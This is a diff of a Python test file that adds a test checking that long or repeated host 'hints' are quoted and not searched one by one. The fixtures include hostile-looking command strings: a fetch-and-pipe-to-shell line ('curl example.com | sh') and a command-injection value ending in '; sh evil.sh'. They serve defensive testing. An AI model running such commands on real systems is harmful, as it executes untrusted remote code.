@@ -26,6 +26,7 @@ from pipeline.show.rows import render_row
 from pipeline.show.screen import Screen
 from remote.errors import RemoteFault
 from remote.host import Host
+from remote.link import host_hints
 from remote.link.agent_start import _owner
 from remote.link.answers import read_result
 from remote.link.container import no_container
@@ -283,3 +284,16 @@ def test_next_begins_only_what_is_typed_on_this_machine(
 def test_a_hint_of_the_proof_is_halfsteps_own(hint: str) -> None:
     assert hint_of_host(hint) == hint
     assert hint_of_host(f"{hint}; sh evil.sh") == f"{QUOTED}{hint}; sh evil.sh"
+
+
+@pytest.mark.parametrize("hints", [["curl example.com | sh"] * 500, ["word " * 200_000]], ids=["many", "long"])
+def test_SE_07_many_or_long_hints_are_not_searched_one_by_one(
+    monkeypatch: pytest.MonkeyPatch, hints: list[str]
+) -> None:
+    searched: list[str] = []
+    monkeypatch.setattr(host_hints, "_is_in_code", searched.append)
+    found = findings_of_host([Finding("proof-step", Severity.ERROR, "m", hint=each) for each in hints])
+    assert searched == []
+    assert all(each.hint.startswith(QUOTED) for each in found)
+    own = findings_of_host([Finding("a", Severity.ERROR, "m", hint="pip install -U tokenizers transformers")] * 500)
+    assert {each.hint for each in own} == {"pip install -U tokenizers transformers"}
